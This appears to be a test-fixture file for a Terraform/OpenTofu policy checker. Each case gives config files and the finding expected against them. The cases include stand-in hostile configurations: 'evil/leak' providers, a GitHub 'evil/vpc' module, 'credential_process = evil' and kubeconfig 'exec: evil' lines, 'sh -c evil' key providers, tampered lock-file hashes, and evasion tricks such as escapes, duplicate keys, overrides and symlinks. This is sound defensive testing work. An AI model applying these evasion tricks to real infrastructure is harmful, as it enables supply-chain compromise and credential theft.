# Configurations in `net`, judged by the list of judge-sources.test.ts, or by the file `list.json` of the case. What is said
# against each stands in `# says:`; nothing is said where there is none. Files below `base/` are those of the default branch.

# case: what the list names
# file: net/main.tf
terraform {
  required_providers {
    aws = { source = "hashicorp/aws", version = "~> 5.0" }
    net = { source = "acme/net", version = "1.2.3" }
  }
}
module "vpc" {
  source  = "acme/vpc/aws"
  version = "1.0.0"
}
resource "terraform_data" "a" {
  provisioner "local-exec" {
    command = "true"
  }
}

# case: a provider of nobody
# says: provider `registry.terraform.io/evil/leak` is not on the list
# file: net/main.tf
terraform {
  required_providers {
    aws = { source = "evil/leak" }
  }
}

# case: a namespace that begins like an allowed one
# says: provider `registry.terraform.io/hashicorp-evil/aws` is not on the list
# file: net/main.tf
terraform {
  required_providers {
    aws = { source = "hashicorp-evil/aws" }
  }
}

# case: another registry
# says: provider `registry.evil.com/hashicorp/aws` is not on the list
# file: net/main.tf
terraform {
  required_providers {
    aws = { source = "registry.evil.com/hashicorp/aws" }
  }
}

# case: a port of the registry
# says: provider `registry.terraform.io:8443/hashicorp/aws` is not on the list
# file: net/main.tf
terraform {
  required_providers {
    aws = { source = "registry.terraform.io:8443/hashicorp/aws" }
  }
}

# case: capitals and the usual port
# file: net/main.tf
terraform {
  required_providers {
    aws = { source = "Registry.Terraform.IO:443/HashiCorp/AWS" }
  }
}

# case: an old address
# says: provider `registry.terraform.io/-/aws` is not on the list
# file: net/main.tf
terraform {
  required_providers {
    aws = { source = "-/aws" }
  }
}

# case: a source of a template
# says: The source of provider "aws" is not written as one plain text
# file: net/main.tf
terraform {
  required_providers {
    aws = { source = "${lower("EVIL")}/leak" }
  }
}

# case: a source that chooses
# says: The source of provider "aws" is not written as one plain text
# file: net/main.tf
terraform {
  required_providers {
    aws = { source = true ? "evil/leak" : "hashicorp/aws" }
  }
}

# case: a source in escapes
# says: provider `registry.terraform.io/evil/leak` is not on the list
# file: net/main.tf
terraform {
  required_providers {
    aws = { source = "\u0065vil/leak" }
  }
}

# case: a source that stands twice
# says: The source of provider "aws" is not written as one plain text
# file: net/main.tf
terraform {
  required_providers {
    aws = {
      source = "hashicorp/aws"
      source = "evil/leak"
    }
  }
}

# case: a key that is computed
# says: The source of provider "aws" is not written as one plain text
# file: net/main.tf
terraform {
  required_providers {
    aws = { ("sou" == "" ? "x" : "source") = "evil/leak" }
  }
}

# case: required providers that stand twice
# says: provider `registry.terraform.io/evil/leak` is not on the list
# file: net/main.tf
terraform {
  required_providers {
    aws = { source = "hashicorp/aws" }
  }
}
# file: net/other.tf
terraform {
  required_providers {
    aws = { source = "evil/leak" }
  }
}

# case: an override
# says: provider `registry.terraform.io/evil/leak` is not on the list
# file: net/main.tf
terraform {
  required_providers {
    aws = { source = "hashicorp/aws" }
  }
}
# file: net/z_override.tf
terraform {
  required_providers {
    aws = { source = "evil/leak" }
  }
}

# case: an override in JSON
# says: provider `registry.terraform.io/evil/leak` is not on the list
# file: net/main.tf
resource "aws_s3_bucket" "a" {}
# file: net/override.tf.json
{"terraform": {"required_providers": {"aws": {"source": "evil/leak"}}}}

# case: a version that the entry does not allow
# says: is allowed in version `~> 1.2`, and this is 2.0.0
# file: net/main.tf
terraform {
  required_providers {
    net = { source = "acme/net", version = "2.0.0" }
  }
}

# case: a version that nothing names
# says: its version is not known before it is installed
# file: net/main.tf
terraform {
  required_providers {
    net = { source = "acme/net" }
  }
}

# case: a constraint beside the entry's
# says: its version is not known before it is installed
# file: net/main.tf
terraform {
  required_providers {
    net = { source = "acme/net", version = ">= 1.0" }
  }
}

# case: a version before a release
# says: is allowed in version `~> 1.2`, and this is 1.3.0-beta1
# file: net/main.tf
terraform {
  required_providers {
    net = { source = "acme/net", version = "1.3.0-beta1" }
  }
}

# case: an exact version that an override replaces
# says: its version is not known before it is installed
# file: net/main.tf
terraform {
  required_providers {
    net = { source = "acme/net", version = "1.2.9" }
  }
}
# file: net/x_override.tf
terraform {
  required_providers {
    net = { source = "acme/net", version = ">= 1.0" }
  }
}

# case: an exact version that an override takes away
# says: its version is not known before it is installed
# file: net/main.tf
terraform {
  required_providers {
    net = { source = "acme/net", version = "1.2.9" }
  }
}
# file: net/override.tf.json
{"terraform": {"required_providers": {"net": {"source": "acme/net"}}}}

# case: an exact version of the last of two overrides
# file: net/main.tf
terraform {
  required_providers {
    net = { source = "acme/net", version = ">= 1.0" }
  }
}
# file: net/a_override.tf.json
{"terraform": {"required_providers": {"net": {"source": "acme/net", "version": "2.0.0"}}}}
# file: net/b_override.tf
terraform {
  required_providers {
    net = { source = "acme/net", version = "1.2.9" }
  }
}

# case: an exact version of the first of two overrides, which is written in JSON
# says: is allowed in version `~> 1.2`, and this is 2.0.0
# file: net/main.tf
terraform {
  required_providers {
    net = { source = "acme/net", version = "1.2.9" }
  }
}
# file: net/b_override.tf
terraform {
  required_providers {
    net = { source = "acme/net", version = "2.0.0" }
  }
}
# file: net/a_override.tf.json
{"terraform": {"required_providers": {"net": {"source": "acme/net", "version": "1.2.9"}}}}

# case: the last of two blocks of one override
# says: is allowed in version `~> 1.2`, and this is 2.0.0
# file: net/main.tf
resource "net_x" "a" {}
# file: net/override.tf
terraform {
  required_providers {
    net = { source = "acme/net", version = "1.2.9" }
  }
}
terraform {
  required_providers {
    net = { source = "acme/net", version = "2.0.0" }
  }
}

# case: two versions in one entry, and the last one is loose
# says: its version is not known before it is installed
# file: net/main.tf
terraform {
  required_providers {
    net = { source = "acme/net", version = "1.2.9", version = ">= 1.0" }
  }
}

# case: two versions in one entry, and the last one is exact
# file: net/main.tf
terraform {
  required_providers {
    net = { source = "acme/net", version = ">= 1.0", version = "1.2.9" }
  }
}

# case: two versions in one entry, by a quoted name
# says: its version is not known before it is installed
# file: net/main.tf
terraform {
  required_providers {
    net = { source = "acme/net", version = "1.2.9", "version" = ">= 1.0" }
  }
}

# case: two versions in one entry of JSON
# says: its version is not known before it is installed
# file: net/main.tf.json
{"terraform": {"required_providers": {"net": {"source": "acme/net", "version": "1.2.9", "version": ">= 1.0"}}}}

# case: two versions in one entry, and the last one is a variable
# says: its version is not known before it is installed
# file: net/main.tf
terraform {
  required_providers {
    net = { source = "acme/net", version = "1.2.9", version = var.v }
  }
}

# case: an entry that stands twice
# says: its version is not known before it is installed
# file: net/a.tf
terraform {
  required_providers {
    net = { source = "acme/net", version = "1.2.9" }
  }
}
# file: net/b.tf
terraform {
  required_providers {
    net = { source = "acme/net", version = ">= 1.0" }
  }
}

# case: constraints that leave only what the entry allows
# file: net/main.tf
terraform {
  required_providers {
    net = { source = "acme/net", version = ">= 1.2.4, < 1.9" }
  }
}

# case: constraints of two modules that together leave only what the entry allows
# file: net/main.tf
terraform {
  required_providers {
    net = { source = "acme/net", version = ">= 1.2" }
  }
}
module "m" {
  source = "./m"
}
# file: net/m/main.tf
terraform {
  required_providers {
    other = { source = "acme/net", version = "< 2.0.0" }
  }
}

# case: constraints that leave one version too many
# says: its version is not known before it is installed
# file: net/main.tf
terraform {
  required_providers {
    net = { source = "acme/net", version = ">= 1.2, <= 2.0.0" }
  }
}

# case: a constraint around a version before a release
# says: its version is not known before it is installed
# file: net/main.tf
terraform {
  required_providers {
    net = { source = "acme/net", version = "~> 2.3.0-beta1" }
  }
}

# case: an exact version that only a test brings along
# says: its version is not known before it is installed
# file: net/main.tf
terraform {
  required_providers {
    net = { source = "acme/net" }
  }
}
# file: net/tests/a.tftest.hcl
run "a" {
  module {
    source = "./t"
  }
}
# file: net/t/main.tf
terraform {
  required_providers {
    net = { source = "acme/net", version = "1.2.9" }
  }
}

# case: an exact version in a directory that only a link seems to reach
# says: its version is not known before it is installed
# file: net/main.tf
terraform {
  required_providers {
    net = { source = "acme/net" }
  }
}
module "m" {
  source = "./link"
}
# file: net/link
→ ../elsewhere/m
# file: elsewhere/m/main.tf
module "x" {
  source = "../x"
}
# file: elsewhere/x/main.tf
# nothing
# file: net/x/main.tf
terraform {
  required_providers {
    net = { source = "acme/net", version = "1.2.9" }
  }
}

# case: a directory that only a link seems to reach
# file: net/main.tf
module "m" {
  source = "./link"
}
# file: net/link
→ ../elsewhere/m
# file: elsewhere/m/main.tf
module "x" {
  source = "../x"
}
# file: elsewhere/x/main.tf
# nothing
# file: net/x/main.tf
terraform {
  required_providers {
    net = { source = "evil/leak" }
  }
}

# case: an exact version in a module that an override replaces
# says: its version is not known before it is installed
# file: net/main.tf
module "m" {
  source = "./a"
}
# file: net/override.tf
module "m" {
  source = "./b"
}
# file: net/a/main.tf
terraform {
  required_providers {
    net = { source = "acme/net", version = "1.2.9" }
  }
}
# file: net/b/main.tf
terraform {
  required_providers {
    net = { source = "acme/net" }
  }
}

# case: an exact version in a module that an override of JSON replaces
# says: its version is not known before it is installed
# file: net/main.tf
module "m" {
  source = "./a"
}
# file: net/x_override.tf.json
{ "module": { "m": { "source": "./b" } } }
# file: net/a/main.tf
terraform {
  required_providers {
    net = { source = "acme/net", version = "1.2.9" }
  }
}
# file: net/b/main.tf
terraform {
  required_providers {
    net = { source = "acme/net" }
  }
}

# case: an exact version in a module of the first of two overrides
# says: its version is not known before it is installed
# file: net/main.tf
module "m" {
  source = "./b"
}
# file: net/a_override.tf
module "m" {
  source = "./a"
}
# file: net/b_override.tf
module "m" {
  source = "./b"
}
# file: net/a/main.tf
terraform {
  required_providers {
    net = { source = "acme/net", version = "1.2.9" }
  }
}
# file: net/b/main.tf
terraform {
  required_providers {
    net = { source = "acme/net" }
  }
}

# case: an exact version in a module that an override in another module replaces
# says: its version is not known before it is installed
# file: net/main.tf
module "w" {
  source = "./w"
}
# file: net/w/main.tf
module "m" {
  source = "../a"
}
# file: net/w/override.tf
module "m" {
  source = "../b"
}
# file: net/a/main.tf
terraform {
  required_providers {
    net = { source = "acme/net", version = "1.2.9" }
  }
}
# file: net/b/main.tf
terraform {
  required_providers {
    net = { source = "acme/net" }
  }
}

# case: a provider that only a block names
# says: provider `registry.terraform.io/hashicorp/leak` is not on the list
# file: net/main.tf
provider "leak" {}
# file: list.json
{"providers": ["hashicorp/aws"]}

# case: a provider that only a resource implies
# says: provider `registry.terraform.io/hashicorp/leak` is not on the list
# file: net/main.tf
resource "leak_thing" "a" {
  count = 0
}
# file: list.json
{"providers": ["hashicorp/aws"]}

# case: a provider that only a data source in a check implies
# says: provider `registry.terraform.io/hashicorp/leak` is not on the list
# file: net/main.tf
check "a" {
  data "leak_thing" "a" {}
}
# file: list.json
{"providers": ["hashicorp/aws"]}

# case: a provider that only an ephemeral resource implies
# says: provider `registry.terraform.io/hashicorp/leak` is not on the list
# file: net/main.tf
ephemeral "leak_thing" "a" {}
# file: list.json
{"providers": []}

# case: a provider that only an action implies
# says: provider `registry.terraform.io/hashicorp/leak` is not on the list
# file: net/main.tf
action "leak_thing" "a" {}
# file: list.json
{"providers": []}

# case: a provider that only an import implies
# says: provider `registry.terraform.io/hashicorp/leak` is not on the list
# file: net/main.tf
import {
  to = leak_thing.a
  id = "1"
}
# file: list.json
{"providers": []}

# case: an import whose target is computed
# says: It is not certain which resource is imported here
# file: net/main.tf
import {
  to = (true ? leak_thing.a : x.y)
  id = "1"
}

# case: a provider of an import
# says: provider `registry.terraform.io/hashicorp/leak` is not on the list
# file: net/main.tf
import {
  to       = aws_s3_bucket.a
  id       = "1"
  provider = leak
}
# file: list.json
{"providers": ["hashicorp/aws"]}

# case: an override of a provider argument
# says: provider `registry.terraform.io/hashicorp/leak` is not on the list
# file: net/main.tf
resource "aws_s3_bucket" "a" {}
# file: net/a_override.tf
resource "aws_s3_bucket" "a" {
  provider = leak
}
# file: list.json
{"providers": ["hashicorp/aws"]}

# case: a provider argument that is computed
# says: The provider is not written as one plain text
# file: net/main.tf
resource "aws_s3_bucket" "a" {
  provider = true ? leak : aws
}

# case: a provider that is handed to a module
# says: provider `registry.terraform.io/hashicorp/leak` is not on the list
# file: net/main.tf
module "m" {
  source    = "./m"
  providers = { aws = leak }
}
# file: net/m/main.tf
resource "aws_s3_bucket" "a" {}
# file: list.json
{"providers": ["hashicorp/aws"]}

# case: a provider of a local module
# says: provider `registry.terraform.io/evil/leak` is not on the list
# file: net/main.tf
module "m" {
  source = "../modules/m"
}
# file: modules/m/main.tf
terraform {
  required_providers {
    aws = { source = "evil/leak" }
  }
}

# case: a provider behind a link
# says: provider `registry.terraform.io/evil/leak` is not on the list
# file: net/main.tf
module "m" {
  source = "./link"
}
# file: net/link
→ ../elsewhere
# file: elsewhere/main.tf
terraform {
  required_providers {
    aws = { source = "evil/leak" }
  }
}

# case: a module call in JSON
# says: module `git::https://github.com/evil/vpc.git` is not on the list, and without a pin
# file: net/main.tf.json
{"module": {"m": {"source": "git::https://github.com/evil/vpc.git"}}}

# case: a module call in JSON with an escape
# says: module `git::https://github.com/evil/vpc.git` is not on the list
# file: net/main.tf.json
{"module": {"m": {"source": "git::https://github.com/\u0065vil/vpc.git"}}}

# case: a module call in JSON that is a template
# says: The source of this module is not written as one plain text
# file: net/main.tf.json
{"module": {"m": {"source": "${\"git::https://github.com/evil/vpc.git\"}"}}}

# case: a module call in a list of JSON
# says: is not on the list
# file: net/main.tf.json
{"module": [{"m": [{"source": "git::https://github.com/evil/vpc.git"}]}]}

# case: a source that JSON has twice
# says: module `git::https://github.com/evil/vpc.git` is not on the list
# file: net/main.tf.json
{"module": {"m": {"source": "./m", "source": "git::https://github.com/evil/vpc.git"}}}
# file: net/m/main.tf
# nothing

# case: the source of an override
# says: module `git::https://github.com/evil/vpc.git` is not on the list
# file: net/main.tf
module "m" {
  source = "./m"
}
# file: net/m/main.tf
# nothing
# file: net/override.tf
module "m" {
  source = "git::https://github.com/evil/vpc.git"
}

# case: a version that an override loosens
# says: without a pin
# file: net/main.tf
module "m" {
  source  = "acme/vpc/aws"
  version = "1.0.0"
}
# file: net/override.tf
module "m" {
  version = "~> 1.0"
}

# case: a version of a variable
# says: without a pin
# file: net/main.tf
module "m" {
  source  = "acme/vpc/aws"
  version = var.v
}

# case: two versions
# says: without a pin
# file: net/main.tf
module "m" {
  source  = "acme/vpc/aws"
  version = "1.0.0, 1.0.1"
}

# case: a source of a variable
# says: The source of this module is not written as one plain text
# file: net/main.tf
module "m" {
  source = var.source
}

# case: a source of a function
# says: The source of this module is not written as one plain text
# file: net/main.tf
module "m" {
  source = format("%s", "git::https://github.com/evil/vpc.git")
}

# case: a path as a heredoc
# says: has white space around a path
# file: net/main.tf
module "m" {
  source = <<EOT
./m
EOT
}
# file: net/m/main.tf
provider "leak" {}

# case: a repository as a heredoc
# says: is not on the list
# file: net/main.tf
module "m" {
  source = <<-EOT
    git::https://github.com/evil/vpc.git
  EOT
}

# case: a module whose files are not here
# says: There is no configuration in
# file: net/main.tf
module "m" {
  source = "./m"
}

# case: a module in a test
# says: module `git::https://github.com/evil/vpc.git` is not on the list
# file: net/main.tf
# nothing
# file: net/tests/a.tftest.hcl
run "a" {
  module {
    source = "git::https://github.com/evil/vpc.git"
  }
}

# case: a provider of a module in a test
# says: provider `registry.terraform.io/evil/leak` is not on the list
# file: net/main.tf
# nothing
# file: net/a.tftest.hcl
run "a" {
  module {
    source = "./setup"
  }
}
# file: net/setup/main.tf
terraform {
  required_providers {
    leak = { source = "evil/leak" }
  }
}

# case: a module in a test in JSON
# says: module `git::https://github.com/evil/vpc.git` is not on the list
# file: net/main.tf
# nothing
# file: net/tests/a.tftest.json
{"run": {"a": {"module": {"source": "git::https://github.com/evil/vpc.git"}}}}

# case: a provider in a test
# says: provider `registry.terraform.io/hashicorp/leak` is not on the list
# file: net/main.tf
# nothing
# file: net/a.tftest.hcl
provider "leak" {}
# file: list.json
{"providers": []}

# case: a test that cannot be read
# says: It is not certain what a.tftest.hcl installs
# file: net/main.tf
# nothing
# file: net/a.tftest.hcl
run "a" {

# case: a module in a test of OpenTofu
# says: module `git::https://github.com/evil/vpc.git` is not on the list
# file: net/main.tf
# nothing
# file: net/x.tofu
# nothing
# file: net/a.tofutest.hcl
run "a" {
  module {
    source = "git::https://github.com/evil/vpc.git"
  }
}

# case: a file of OpenTofu that hides another
# says: provider `registry.opentofu.org/evil/leak` is not on the list
# file: net/main.tf
resource "aws_s3_bucket" "a" {}
# file: net/main.tofu
terraform {
  required_providers {
    aws = { source = "evil/leak" }
  }
}
# file: list.json
{"providers": ["hashicorp/aws"]}

# case: a file that OpenTofu hides, for Terraform
# says: provider `registry.terraform.io/evil/leak` is not on the list
# file: net/main.tf
terraform {
  required_providers {
    aws = { source = "evil/leak" }
  }
}
# file: net/main.tofu
resource "aws_s3_bucket" "a" {}
# file: list.json
{"providers": ["hashicorp/aws"]}

# case: an editor's copy that is read
# says: provider `registry.terraform.io/evil/leak` is not on the list
# file: net/main.tf
# nothing
# file: net/#x#.tf
terraform {
  required_providers {
    aws = { source = "evil/leak" }
  }
}

# case: a file that cannot be read
# says: It is not certain what main.tf installs
# file: net/main.tf
resource "aws_s3_bucket" "a" {
  x = "

# case: a block that is not known
# says: The block "gadget" is not one that Plangate knows
# file: net/main.tf
gadget "a" {}

# case: a block that is not known in JSON
# says: The block "gadget" is not one that Plangate knows
# file: net/main.tf.json
{"gadget": {"a": {}}}

# case: a block that is not known in terraform
# says: The block "gadget" in "terraform" is not one that Plangate knows
# file: net/main.tf
terraform {
  gadget {}
}

# case: a root without a configuration
# says: There is no configuration in
# file: net/readme.md
nothing

# case: a root whose files are for OpenTofu alone
# file: net/main.tofu
# nothing

# case: a provisioner
# says: `provisioner remote-exec` is not on the list
# file: net/main.tf
resource "terraform_data" "a" {
  provisioner "remote-exec" {}
}

# case: a provisioner in JSON
# says: `provisioner remote-exec` is not on the list
# file: net/main.tf.json
{"resource": {"terraform_data": {"a": {"provisioner": [{"remote-exec": {}}]}}}}

# case: a provisioner of what is removed
# says: `provisioner remote-exec` is not on the list
# file: net/main.tf
removed {
  from = aws_s3_bucket.a
  provisioner "remote-exec" {}
}

# case: a provisioner of an override
# says: `provisioner remote-exec` is not on the list
# file: net/main.tf
resource "terraform_data" "a" {}
# file: net/override.tf
resource "terraform_data" "a" {
  provisioner "remote-exec" {}
}

# case: a provisioner beside the files
# says: `provisioner leak` is not on the list
# says: the program `terraform-provisioner-leak` is not on the list
# file: net/main.tf
resource "terraform_data" "a" {
  provisioner "leak" {}
}
# file: net/terraform-provisioner-leak
#!/bin/sh

# case: a provisioner beside the files with a version
# says: the program `terraform-provisioner-leak_v1.0.0` is not on the list
# file: net/main.tf
# nothing
# file: net/terraform-provisioner-leak_v1.0.0
#!/bin/sh

# case: a remote state on S3
# says: `terraform_remote_state s3` is not on the list
# file: net/main.tf
data "terraform_remote_state" "a" {
  backend = "s3"
  config  = { shared_config_files = ["aws.ini"] }
}

# case: a remote state by http
# says: `terraform_remote_state http` is not on the list
# file: net/main.tf
data "terraform_remote_state" "a" {
  backend = "http"
}

# case: a remote state in a check
# says: `terraform_remote_state s3` is not on the list
# file: net/main.tf
check "a" {
  data "terraform_remote_state" "a" {
    backend = "s3"
  }
}

# case: a remote state of a variable
# says: `terraform_remote_state ?` is not on the list
# file: net/main.tf
data "terraform_remote_state" "a" {
  backend = var.backend
}

# case: a remote state in a local module
# says: `terraform_remote_state kubernetes` is not on the list
# file: net/main.tf
module "m" {
  source = "./m"
}
# file: net/m/main.tf
data "terraform_remote_state" "a" {
  backend = "kubernetes"
}

# case: a local remote state
# file: net/main.tf
data "terraform_remote_state" "a" {
  backend = "local"
}

# case: a new backend
# says: `backend s3`, which is not as the default branch has it, is not on the list
# file: net/main.tf
terraform {
  backend "s3" {}
}

# case: the backend of the default branch
# file: net/main.tf
terraform {
  backend "s3" {
    bucket = "a"
  }
}
# file: base/net/main.tf
terraform {
  backend "s3" {
    bucket = "a"
  }
}

# case: a backend that changes
# says: `backend s3`, which is not as the default branch has it, is not on the list
# file: net/main.tf
terraform {
  backend "s3" {
    bucket              = "a"
    shared_config_files = ["aws.ini"]
  }
}
# file: base/net/main.tf
terraform {
  backend "s3" {
    bucket = "a"
  }
}

# case: a file that the backend names
# says: `backend s3`, whose file "net/aws.ini" is not as the default branch has it, is not on the list
# file: net/main.tf
terraform {
  backend "s3" {
    shared_config_files = ["aws.ini"]
  }
}
# file: net/aws.ini
credential_process = evil
# file: base/net/main.tf
terraform {
  backend "s3" {
    shared_config_files = ["aws.ini"]
  }
}
# file: base/net/aws.ini
region = eu

# case: a file that the backend names and that is new
# says: `backend s3`, whose file "aws.ini" is not as the default branch has it, is not on the list
# file: net/main.tf
terraform {
  backend "s3" {
    shared_config_files = ["../aws.ini"]
  }
}
# file: aws.ini
credential_process = evil
# file: base/net/main.tf
terraform {
  backend "s3" {
    shared_config_files = ["../aws.ini"]
  }
}

# case: the kubeconfig that the backend names
# says: `backend kubernetes`, whose file "net/kube" is not as the default branch has it, is not on the list
# file: net/main.tf
terraform {
  backend "kubernetes" {
    config_path = "./kube"
  }
}
# file: net/kube
exec: evil
# file: base/net/main.tf
terraform {
  backend "kubernetes" {
    config_path = "./kube"
  }
}

# case: a backend in an override
# says: `backend http`, which is not as the default branch has it, is not on the list
# file: net/main.tf
terraform {
  backend "s3" {}
}
# file: net/x_override.tf
terraform {
  backend "http" {}
}
# file: base/net/main.tf
terraform {
  backend "s3" {}
}

# case: a backend in JSON
# says: `backend http`, which is not as the default branch has it, is not on the list
# file: net/main.tf.json
{"terraform": {"backend": {"http": {}}}}

# case: a store of states
# says: `state_store leak_store`, which is not as the default branch has it, is not on the list
# file: net/main.tf
terraform {
  state_store "leak_store" {
    provider "leak" {}
  }
}

# case: a key provider
# says: `key_provider external` is not on the list
# file: net/main.tf
terraform {
  encryption {
    key_provider "external" "a" {
      command = ["sh", "-c", "evil"]
    }
  }
}

# case: a key provider in JSON
# says: `key_provider external` is not on the list
# file: net/main.tf.json
{"terraform": {"encryption": {"key_provider": {"external": {"a": {"command": ["evil"]}}}}}}

# case: a key provider that reads files
# says: `key_provider aws_kms` is not on the list
# file: net/main.tf
terraform {
  encryption {
    key_provider "aws_kms" "a" {}
  }
}

# case: a method
# says: `method external` is not on the list
# file: net/main.tf
terraform {
  encryption {
    method "external" "a" {}
  }
}

# case: an encryption that runs nothing
# file: net/main.tf
terraform {
  encryption {
    key_provider "pbkdf2" "a" {}
    method "aes_gcm" "a" {}
  }
}

# case: a state
# says: `terraform.tfstate` is a state
# file: net/main.tf
# nothing
# file: net/terraform.tfstate
{}

# case: a state of a workspace
# says: `terraform.tfstate.d/x/terraform.tfstate` is a state
# file: net/main.tf
# nothing
# file: net/terraform.tfstate.d/x/terraform.tfstate
{}

# case: a state that the backend names
# says: `x.json` is the state of the backend `local`
# file: net/main.tf
terraform {
  backend "local" {
    path = "x.json"
  }
}
# file: net/x.json
{}

# case: a directory of states that the backend names
# says: `states` is the state of the backend `local`
# file: net/main.tf
terraform {
  backend "local" {
    workspace_dir = "states"
  }
}
# file: net/states/x/terraform.tfstate
{}

# case: a state that is computed
# says: `path` of the backend `local` is not written as one plain text
# file: net/main.tf
terraform {
  backend "local" {
    path = var.x
  }
}

# case: programs beside the files
# says: `terraform.d/plugins/registry.terraform.io/hashicorp/aws/5.0.0/linux_amd64/terraform-provider-aws` is where a program looks for programs to run
# file: net/main.tf
# nothing
# file: net/terraform.d/plugins/registry.terraform.io/hashicorp/aws/5.0.0/linux_amd64/terraform-provider-aws
#!/bin/sh

# case: what init seems to have installed
# says: `.terraform/providers/x` is where a program looks for programs to run
# file: net/main.tf
# nothing
# file: net/.terraform/providers/x
#!/bin/sh

# case: a record of modules
# says: `.terraform/modules/modules.json` is where a program looks for programs to run
# file: net/main.tf
# nothing
# file: net/.terraform/modules/modules.json
{"Modules": []}

# case: a link in the place of a directory
# says: `.terraform` is where a program looks for programs to run
# file: net/main.tf
# nothing
# file: net/.terraform
→ ../elsewhere

# case: a CLI configuration
# says: `.terraformrc` says where providers come from
# file: net/main.tf
# nothing
# file: net/.terraformrc
provider_installation {}

# case: a lock file that is gone
# says: `.terraform.lock.hcl` is on the default branch and is missing here
# file: net/main.tf
# nothing
# file: base/net/.terraform.lock.hcl
provider "registry.terraform.io/hashicorp/aws" {
  version = "5.0.0"
  hashes  = ["h1:a"]
}

# case: a lock file that is the same
# file: net/main.tf
# nothing
# file: net/.terraform.lock.hcl
provider "registry.terraform.io/hashicorp/aws" {
  version = "5.0.0"
  hashes  = ["h1:a", "h1:b"]
}
# file: base/net/.terraform.lock.hcl
provider "registry.terraform.io/hashicorp/aws" {
  version = "5.0.0"
  hashes  = ["h1:a"]
}

# case: a provider that only the lock file names
# says: provider `registry.terraform.io/evil/leak` is not on the list
# file: net/main.tf
# nothing
# file: net/.terraform.lock.hcl
provider "registry.terraform.io/evil/leak" {
  version = "5.0.0"
  hashes  = ["h1:a"]
}

# case: a provider of a module that only the lock file names
# says: provider `registry.terraform.io/evil/leak` is not on the list
# file: net/main.tf
module "vpc" {
  source  = "acme/vpc/aws"
  version = "1.0.0"
}
# file: net/.terraform.lock.hcl
provider "registry.terraform.io/hashicorp/aws" {
  version = "5.0.0"
  hashes  = ["h1:a"]
}
provider "registry.terraform.io/evil/leak" {
  version = "5.0.0"
  hashes  = ["h1:a"]
}
# file: base/net/.terraform.lock.hcl
provider "registry.terraform.io/hashicorp/aws" {
  version = "5.0.0"
  hashes  = ["h1:a"]
}

# case: hashes that are gone
# says: provider `registry.terraform.io/hashicorp/aws` 5.0.0 lacks hashes in the lock file
# file: net/main.tf
# nothing
# file: net/.terraform.lock.hcl
provider "registry.terraform.io/hashicorp/aws" {
  version = "5.0.0"
  hashes  = ["h1:evil"]
}
# file: base/net/.terraform.lock.hcl
provider "registry.terraform.io/hashicorp/aws" {
  version = "5.0.0"
  hashes  = ["h1:a"]
}

# case: a version in the lock file that the entry does not allow
# says: is allowed in version `~> 1.2`, and this is 2.0.0
# file: net/main.tf
terraform {
  required_providers {
    net = { source = "acme/net" }
  }
}
# file: net/.terraform.lock.hcl
provider "registry.terraform.io/acme/net" {
  version = "2.0.0"
  hashes  = ["h1:a"]
}

# case: a new version of what only the lock file names
# says: is allowed in version `~> 1.2`, and this is 2.0.0
# file: net/main.tf
# nothing
# file: net/.terraform.lock.hcl
provider "registry.terraform.io/acme/net" {
  version = "2.0.0"
  hashes  = ["h1:a"]
}
# file: base/net/.terraform.lock.hcl
provider "registry.terraform.io/acme/net" {
  version = "1.2.0"
  hashes  = ["h1:a"]
}

# case: a version in the lock file that the entry allows
# file: net/main.tf
terraform {
  required_providers {
    net = { source = "acme/net" }
  }
}
# file: net/.terraform.lock.hcl
provider "registry.terraform.io/acme/net" {
  version = "1.2.9"
  hashes  = ["h1:a"]
}

# case: a lock file that cannot be read
# says: It is not certain what .terraform.lock.hcl says
# file: net/main.tf
# nothing
# file: net/.terraform.lock.hcl
provider "registry.terraform.io/hashicorp/aws" {

# case: a lock file that is not as init writes it
# says: It is not certain what .terraform.lock.hcl says
# file: net/main.tf
# nothing
# file: net/.terraform.lock.hcl
provider "registry.terraform.io/hashicorp/aws" {
  version = "5.0.0"
  version = "6.0.0"
}

# case: a lock file whose version is a constraint
# says: It is not certain what .terraform.lock.hcl says
# file: net/main.tf
terraform {
  required_providers {
    net = { source = "acme/net" }
  }
}
# file: net/.terraform.lock.hcl
provider "registry.terraform.io/acme/net" {
  version = ">= 1.2.0"
}

# case: a lock file with two versions in one entry
# says: It is not certain what .terraform.lock.hcl says
# file: net/main.tf
terraform {
  required_providers {
    net = { source = "acme/net" }
  }
}
# file: net/.terraform.lock.hcl
provider "registry.terraform.io/acme/net" {
  version = "1.2.9, 2.0.0"
}

# case: a lock file whose version is not whole
# says: It is not certain what .terraform.lock.hcl says
# file: net/main.tf
terraform {
  required_providers {
    net = { source = "acme/net" }
  }
}
# file: net/.terraform.lock.hcl
provider "registry.terraform.io/acme/net" {
  version = "1.2"
}

# case: a state behind a link of a directory
# says: `link/s.json` is the state of the backend `local`
# file: net/main.tf
terraform {
  backend "local" {
    path = "link/s.json"
  }
}
# file: net/link
→ ../elsewhere
# file: elsewhere/s.json
{}

# case: a backend whose script runs a changed script
# says: `backend s3`, whose file "net/lib.sh" is not as the default branch has it,
# file: net/main.tf
terraform {
  backend "s3" {
    shared_config_files = ["conf"]
  }
}
# file: net/conf
credential_process = ./login.sh
# file: net/login.sh
. ./lib.sh
# file: net/lib.sh
evil
# file: base/net/main.tf
terraform {
  backend "s3" {
    shared_config_files = ["conf"]
  }
}
# file: base/net/conf
credential_process = ./login.sh
# file: base/net/login.sh
. ./lib.sh
# file: base/net/lib.sh
x

# case: a backend whose script runs an unchanged script
# file: net/main.tf
terraform {
  backend "s3" {
    shared_config_files = ["conf"]
  }
}
# file: net/conf
credential_process = ./login.sh
# file: net/login.sh
. ./lib.sh
# file: net/lib.sh
. ./login.sh
# file: base/net/main.tf
terraform {
  backend "s3" {
    shared_config_files = ["conf"]
  }
}
# file: base/net/conf
credential_process = ./login.sh
# file: base/net/login.sh
. ./lib.sh
# file: base/net/lib.sh
. ./login.sh

# case: a backend whose script has a blank in its name
# says: `backend s3`, whose file "net/my login.sh" is not as the default branch has it,
# file: net/main.tf
terraform {
  backend "s3" {
    shared_config_files = ["conf"]
  }
}
# file: net/conf
credential_process = "./my login.sh" -x
# file: net/my login.sh
evil
# file: base/net/main.tf
terraform {
  backend "s3" {
    shared_config_files = ["conf"]
  }
}
# file: base/net/conf
credential_process = "./my login.sh" -x
# file: base/net/my login.sh
x

# case: a backend whose script has an escaped blank in its name
# says: `backend s3`, whose file "net/my login.sh" is not as the default branch has it,
# file: net/main.tf
terraform {
  backend "s3" {
    shared_config_files = ["conf"]
  }
}
# file: net/conf
credential_process = ./my\ login.sh -x
# file: net/my login.sh
evil
# file: base/net/main.tf
terraform {
  backend "s3" {
    shared_config_files = ["conf"]
  }
}
